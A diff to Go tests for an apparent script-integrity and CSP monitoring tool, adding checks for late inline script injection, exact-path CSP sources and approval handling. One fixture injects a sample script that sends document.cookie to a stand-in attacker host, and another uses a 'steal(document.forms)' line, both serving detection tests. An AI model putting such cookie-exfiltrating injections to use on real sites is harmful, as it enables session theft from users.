@@ -249,10 +249,19 @@ func TestVaryingInline(t *testing.T) {
 	if n != maxInline+1 {
 		t.Errorf("the page holds %d resources; want %d", n, maxInline+1)
 	}
+	// Two hours on, a script injected inline is its own alert again.
+	later := time.Now().Add(2 * time.Hour)
+	st.now = func() time.Time { return later }
+	*events = nil
+	serve(p, http.Header{"Content-Type": {"text/html"}}, `<script>fetch("https://evil.test/"+document.cookie)</script>`)
+	if got := kinds(*events); !strings.HasPrefix(got, "script_new inline sha256-") {
+		t.Errorf("an inline script injected later raised %q; want its own script_new", got)
+	}
 }
 
 // TestEnforcedSources: approved URLs become CSP sources that cannot end the
-// policy, masked ones a prefix; the app's reporting headers stay.
+// policy; a masked one the exact path the page names (never a prefix); the
+// app's reporting headers stay.
 func TestEnforcedSources(t *testing.T) {
 	p, st, _ := newPage(t, Enforce)
 	serve(p, http.Header{"Content-Type": {"text/html"}}, `<script src="https://cdn.test/combine/npm/a@1,npm/b@2;x"></script><script src="https://cdn.test/v/123456789012345/app.js"></script>`)
@@ -269,7 +278,7 @@ func TestEnforcedSources(t *testing.T) {
 	}
 	h := http.Header{"Reporting-Endpoints": {`app="/reports"`}}
 	p.Respond(h)
-	if csp := h.Get("Content-Security-Policy"); !strings.HasPrefix(csp, "script-src https://cdn.test/combine/npm/a@1%2Cnpm/b@2%3Bx https://cdn.test/v/; frame-src") {
+	if csp := h.Get("Content-Security-Policy"); !strings.HasPrefix(csp, "script-src https://cdn.test/combine/npm/a@1%2Cnpm/b@2%3Bx https://cdn.test/v/123456789012345/app.js; frame-src") {
 		t.Errorf("enforced policy %q", csp)
 	}
 	if got := h.Values("Reporting-Endpoints"); len(got) != 2 || got[0] != `app="/reports"` {
@@ -419,6 +428,16 @@ func TestScriptContent(t *testing.T) {
 		t.Fatalf("approved: policy %q", h.Get("Content-Security-Policy"))
 	}
 	fetch("console.log('v1')")
+	// A client asking for the script by another query proves nothing
+	// about what the page runs: not hashed.
+	other, _ := http.NewRequest("GET", "https://shop.test/static/app.js?v=evil", nil)
+	if w := p.ObserveScript(other, 200, http.Header{"Content-Type": {"text/javascript"}}); w != nil {
+		w.Write([]byte("anything"))
+		w.Close()
+	}
+	if len(*events) != 0 {
+		t.Fatalf("another query's content counted: %q", kinds(*events))
+	}
 	fetch("steal(document.forms)")
 	h = http.Header{}
 	p.Respond(h)
@@ -434,5 +453,27 @@ func TestScriptContent(t *testing.T) {
 	}
 	if len(got) != 3 || !strings.Contains(got[0], v1+" → ") || !strings.Contains(got[2], "varies with each response") {
 		t.Errorf("events:\n%s\nwant a change from %s, another, then that it varies", strings.Join(got, "\n"), v1)
+	}
+}
+
+// TestApprovalBeforeContent: an approval made before rampart served the
+// script pins no content, and its first content does not lapse it.
+func TestApprovalBeforeContent(t *testing.T) {
+	p, st, events := newPage(t, Enforce)
+	serve(p, http.Header{"Content-Type": {"text/html"}}, `<script src="/static/app.js"></script>`)
+	st.Flush()
+	if err := Decide(st.Dir(), "shop.test/checkout", "https://shop.test/static/app.js", "approved", "ours", "ops", time.Now()); err != nil {
+		t.Fatal(err)
+	}
+	st.ReloadApprovals()
+	*events = nil
+	r, _ := http.NewRequest("GET", "https://shop.test/static/app.js", nil)
+	w := p.ObserveScript(r, 200, http.Header{"Content-Type": {"text/javascript"}})
+	w.Write([]byte("console.log(1)"))
+	w.Close()
+	h := http.Header{}
+	p.Respond(h)
+	if !strings.HasPrefix(h.Get("Content-Security-Policy"), "script-src https://shop.test/static/app.js;") || len(*events) != 0 {
+		t.Errorf("policy %q, events %q; want the script still allowed, nothing raised", h.Get("Content-Security-Policy"), kinds(*events))
 	}
 }
